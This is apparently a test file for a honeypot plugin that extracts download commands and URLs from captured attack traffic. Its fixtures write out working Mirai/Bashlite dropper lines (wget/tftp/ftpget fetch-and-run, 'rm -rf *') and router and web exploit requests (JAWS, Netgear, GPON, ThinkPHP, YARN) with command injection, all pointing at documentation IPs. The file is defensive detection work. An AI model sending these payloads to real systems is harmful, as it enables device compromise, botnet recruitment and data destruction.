// Tests for url-extract, run by `honeytrap-plugin test` with node:test. The
// plugin folder runs in the daemon's own worker engine (loadPlugin), with the
// limits in plugin.json, and every result is checked as the daemon checks it.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { HarnessError, attackFixture, loadPlugin } from '@honeytrap/sdk';

const dir = fileURLToPath(new URL('..', import.meta.url));

/** @type {import('@honeytrap/sdk').PluginUnderTest} */
let plugin;
before(async () => {
  plugin = await loadPlugin(dir);
});
after(() => plugin.close());

/** Findings for `received`, as [type, value, offset, meta]. */
async function run(received, port = 80) {
  const out = await plugin.run(attackFixture({ received, port }));
  assert.deepEqual(out.artifacts, []);
  return out.findings.map((f) => [f.type, f.value, f.offset, f.meta]);
}

/** Every finding not marked decoded is written as such in the input at its offset. */
function assertOffsets(received, findings) {
  const bytes = Buffer.from(received).toString('latin1');
  for (const [, value, offset, meta] of findings)
    if (!meta?.decoded) assert.equal(bytes.slice(offset, offset + value.length), value);
}

const urlMeta = (scheme, host, port, path, extra = {}) => ({ scheme, host, port, path, ...extra });
const url = (value, scheme, host, port, path, extra = {}) => [
  'url',
  value,
  undefined,
  urlMeta(scheme, host, port, path, extra),
];

/** Findings with their offsets filled in from where `value` first appears after `from`. */
function at(received, expected) {
  let from = 0;
  return expected.map(([type, value, offset, meta]) => {
    if (offset !== undefined) return [type, value, offset, meta];
    const o = received.indexOf(value, from);
    assert.ok(o >= 0, `${value} is in the input`);
    from = o;
    return [type, value, o, meta];
  });
}

test('a Bashlite/Mirai dropper line: wget, tftp-hpa, busybox tftp and ftpget, each with the URL it fetches', async () => {
  const received =
    'enable\r\nsystem\r\nshell\r\nsh\r\n' +
    'cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://203.0.113.5/bins.sh; chmod 777 bins.sh; sh bins.sh; ' +
    'tftp 203.0.113.5 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; ' +
    'tftp -r tftp2.sh -g 203.0.113.5; chmod 777 tftp2.sh; sh tftp2.sh; ' +
    'ftpget -v -u anonymous -p anonymous -P 21 203.0.113.5 ftp1.sh ftp1.sh; sh ftp1.sh; ' +
    'rm -rf bins.sh tftp1.sh tftp2.sh ftp1.sh; rm -rf *\r\n';
  const got = await run(received, 23);
  assertOffsets(received, got);
  assert.deepEqual(
    got,
    at(received, [
      [
        'command',
        'wget http://203.0.113.5/bins.sh',
        undefined,
        { tool: 'wget', url: 'http://203.0.113.5/bins.sh' },
      ],
      url('http://203.0.113.5/bins.sh', 'http', '203.0.113.5', 80, '/bins.sh'),
      [
        'command',
        'tftp 203.0.113.5 -c get tftp1.sh',
        undefined,
        { tool: 'tftp', host: '203.0.113.5', url: 'tftp://203.0.113.5/tftp1.sh' },
      ],
      [
        'command',
        'tftp -r tftp2.sh -g 203.0.113.5',
        undefined,
        { tool: 'tftp', host: '203.0.113.5', url: 'tftp://203.0.113.5/tftp2.sh' },
      ],
      [
        'command',
        'ftpget -v -u anonymous -p anonymous -P 21 203.0.113.5 ftp1.sh ftp1.sh',
        undefined,
        {
          tool: 'ftpget',
          user: 'anonymous',
          output: 'ftp1.sh',
          host: '203.0.113.5',
          url: 'ftp://anonymous:anonymous@203.0.113.5/ftp1.sh',
        },
      ],
    ]),
  );
});

test('tftp spellings: busybox -g -r HOST, -r FILE -g HOST, clustered -gr, a port, -l only, put', async () => {
  const lines = [
    'tftp -g -r x.sh 198.51.100.1',
    'tftp -r x -g host.example.net',
    'busybox tftp -gr a.arm 198.51.100.1 6969',
    'tftp -g -l b.mips 198.51.100.1',
    'tftp -p -l loot.tar 198.51.100.1',
    'tftp -m binary 2001:db8::7 -c get c.sh',
  ];
  const received = `${lines.join('\n')}\n`;
  const got = await run(received, 23);
  const urls = got.filter(([t]) => t === 'command').map(([, , , m]) => m.url ?? null);
  assert.deepEqual(urls, [
    'tftp://198.51.100.1/x.sh',
    'tftp://host.example.net/x',
    'tftp://198.51.100.1:6969/a.arm',
    'tftp://198.51.100.1/b.mips',
    null,
    'tftp://[2001:db8::7]/c.sh',
  ]);
  assert.equal(got.filter(([t]) => t === 'command').at(-2)[3].direction, 'put');
  assert.equal(got.length, lines.length);
});

test('Mirai over HTTP: the JAWS and Netgear (Mozi) query strings and the GPON form body, decoded', async () => {
  const jaws =
    'GET /shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.2/jaws;sh+/tmp/jaws HTTP/1.1\r\nUser-Agent: Hello, world\r\nHost: 127.0.0.1:80\r\nAccept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\nConnection: keep-alive\r\n\r\n';
  assert.deepEqual(await run(jaws), [
    [
      'command',
      'wget http://203.0.113.2/jaws',
      jaws.indexOf('wget'),
      { tool: 'wget', url: 'http://203.0.113.2/jaws', decoded: true },
    ],
    [
      'url',
      'http://203.0.113.2/jaws',
      jaws.indexOf('http://'),
      { scheme: 'http', host: '203.0.113.2', port: 80, path: '/jaws' },
    ],
  ]);

  const mozi =
    'GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.1:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n';
  assert.deepEqual(await run(mozi), [
    [
      'command',
      'wget http://203.0.113.1:8088/Mozi.m -O /tmp/netgear',
      mozi.indexOf('wget'),
      {
        tool: 'wget',
        url: 'http://203.0.113.1:8088/Mozi.m',
        output: '/tmp/netgear',
        decoded: true,
      },
    ],
    [
      'url',
      'http://203.0.113.1:8088/Mozi.m',
      mozi.indexOf('http://'),
      { scheme: 'http', host: '203.0.113.1', port: 8088, path: '/Mozi.m' },
    ],
  ]);

  const body =
    'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://203.0.113.3/bin+-O+/tmp/gaf;sh+/tmp/gaf`&ipv=0';
  const gpon = `POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nConnection: keep-alive\r\nAccept: */*\r\nUser-Agent: Hello, World\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
  assert.deepEqual(await run(gpon, 8080), [
    [
      'command',
      'busybox wget http://203.0.113.3/bin -O /tmp/gaf',
      gpon.indexOf('busybox'),
      {
        tool: 'wget',
        url: 'http://203.0.113.3/bin',
        output: '/tmp/gaf',
        busybox: true,
        decoded: true,
      },
    ],
    [
      'url',
      'http://203.0.113.3/bin',
      gpon.indexOf('http://'),
      { scheme: 'http', host: '203.0.113.3', port: 80, path: '/bin' },
    ],
  ]);
});

test('percent-encoded URLs in a query are decoded; the offset is where the encoded text starts', async () => {
  const received =
    'GET /index.php?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=curl%20-o%20/tmp/t%20http%3A%2F%2F203.0.113.11%2Ft%3Fa%3D1 HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n';
  const got = await run(received);
  assert.deepEqual(got, [
    [
      'command',
      'curl -o /tmp/t http://203.0.113.11/t?a=1',
      received.indexOf('curl'),
      { tool: 'curl', url: 'http://203.0.113.11/t?a=1', output: '/tmp/t', decoded: true },
    ],
    [
      'url',
      'http://203.0.113.11/t?a=1',
      received.indexOf('http%3A'),
      {
        scheme: 'http',
        host: '203.0.113.11',
        port: 80,
        path: '/t',
        query: 'a=1',
        decoded: true,
      },
    ],
  ]);
});

test('curl | sh inside JSON with escaped quotes, scheme-less wget, ${IFS}, && and 2>&1', async () => {
  const json =
    '{"am-container-spec":{"commands":{"command":"/bin/bash -c \\"wget -q -O - 203.0.113.7/ldr.sh | bash\\""}}}';
  assert.deepEqual(await run(json, 8088), [
    [
      'command',
      'wget -q -O - 203.0.113.7/ldr.sh | bash',
      json.indexOf('wget'),
      { tool: 'wget', output: '-', url: 'http://203.0.113.7/ldr.sh', pipeTo: 'bash' },
    ],
  ]);

  const ifs = 'cd${IFS}/tmp;wget${IFS}http://203.0.113.8/x.sh${IFS}-O${IFS}x;sh${IFS}x';
  assert.deepEqual(await run(ifs, 80), [
    [
      'command',
      'wget${IFS}http://203.0.113.8/x.sh${IFS}-O${IFS}x',
      ifs.indexOf('wget'),
      { tool: 'wget', output: 'x', url: 'http://203.0.113.8/x.sh' },
    ],
    [
      'url',
      'http://203.0.113.8/x.sh',
      ifs.indexOf('http'),
      urlMeta('http', '203.0.113.8', 80, '/x.sh'),
    ],
  ]);

  const chain =
    'cd /tmp && curl -sSLk --url https://dl.example.org/m.sh -o m.sh >/dev/null 2>&1 && sh m.sh\n';
  const got = await run(chain, 22);
  assert.deepEqual(got[0], [
    'command',
    'curl -sSLk --url https://dl.example.org/m.sh -o m.sh >/dev/null 2>&1',
    chain.indexOf('curl'),
    { tool: 'curl', output: 'm.sh', url: 'https://dl.example.org/m.sh' },
  ]);
  assert.equal(got.length, 2);
});

test('URL forms: IPv6 with a port, credentials, ftp and tftp, trailing punctuation, bad hosts', async () => {
  const received =
    'see http://[2001:db8::1]:8443/a.sh?x=1#top, ftp://user:pw@ftp.example.com/pub/a.bin and (tftp://203.0.113.4/x). ' +
    'HTTPS://Example.COM:443 http://999.1.1.1/ http://[zz::1]/ http://host:99999/ http:// xhttp://a.b/ http://a..b/';
  const got = await run(received, 8080);
  assertOffsets(received, got);
  assert.deepEqual(
    got,
    at(received, [
      url('http://[2001:db8::1]:8443/a.sh?x=1#top', 'http', '2001:db8::1', 8443, '/a.sh', {
        query: 'x=1',
      }),
      url('ftp://user:pw@ftp.example.com/pub/a.bin', 'ftp', 'ftp.example.com', 21, '/pub/a.bin', {
        user: 'user',
      }),
      url('tftp://203.0.113.4/x', 'tftp', '203.0.113.4', 69, '/x'),
      url('HTTPS://Example.COM:443', 'https', 'example.com', 443, '/'),
    ]),
  );
});

test('nothing in ordinary traffic: browser and tool requests, SSH, TLS, RDP, an FTP login', async () => {
  const inputs = [
    'GET / HTTP/1.1\r\nHost: 192.0.2.1\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36\r\nAccept: text/html,application/xhtml+xml\r\nAccept-Language: en-US,en;q=0.9\r\n\r\n',
    'GET /favicon.ico HTTP/1.1\r\nHost: 192.0.2.1\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n',
    'HEAD / HTTP/1.0\r\nUser-Agent: Wget/1.21.4\r\n\r\n',
    'SSH-2.0-libssh_0.9.6\r\n',
    Buffer.from(
      '160301006e0100006a0303' +
        '00'.repeat(32) +
        '000004c02bc02f0100003d00000010000e00000b6578616d706c652e636f6d',
      'hex',
    ),
    '\x03\x00\x00\x2a\x25\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n\x01\x00\x08\x00\x03\x00\x00\x00',
    'USER anonymous\r\nPASS ftp@example.com\r\nSYST\r\nPWD\r\nTYPE I\r\nPASV\r\nLIST\r\nQUIT\r\n',
    'I use wget and curl every day; tftp is old.\n',
  ];
  for (const received of inputs) assert.deepEqual(await run(received, 443), [], String(received));
});

test('decoded payloads: text artifacts are scanned, offsets in the artifact; binary ones are not given', async () => {
  const attack = attackFixture({
    received: 'echo Y2QgL3RtcDsgd2dldA== | base64 -d | sh',
    port: 23,
  });
  const script =
    '#!/bin/sh\ncd /tmp\nwget -O .x http://203.0.113.30/x86 || curl -o .x http://203.0.113.30/x86\n';
  const out = await plugin.runArtifact(
    { data: script, contentType: 'text/x-shellscript', name: 'decoded', producer: 'b64-decode' },
    attack,
  );
  assert.deepEqual(
    out.findings.map((f) => [f.type, f.value, f.offset]),
    [
      ['command', 'wget -O .x http://203.0.113.30/x86', script.indexOf('wget')],
      ['url', 'http://203.0.113.30/x86', script.indexOf('http')],
      ['command', 'curl -o .x http://203.0.113.30/x86', script.indexOf('curl')],
      ['url', 'http://203.0.113.30/x86', script.lastIndexOf('http')],
    ],
  );
  await assert.rejects(
    plugin.runArtifact({ data: script, contentType: 'application/x-executable' }, attack),
    HarnessError,
  );
});

test('bounded: 2,000 URLs give 500 findings and a log line', async () => {
  const received = 'wget http://203.0.113.1/a.sh\n'.repeat(2000);
  const out = await plugin.run(attackFixture({ received, port: 23, readLimit: received.length }));
  assert.equal(out.findings.length, 500);
  assert.ok(plugin.logs.some((l) => l.includes('stopped at 500 findings')));
});
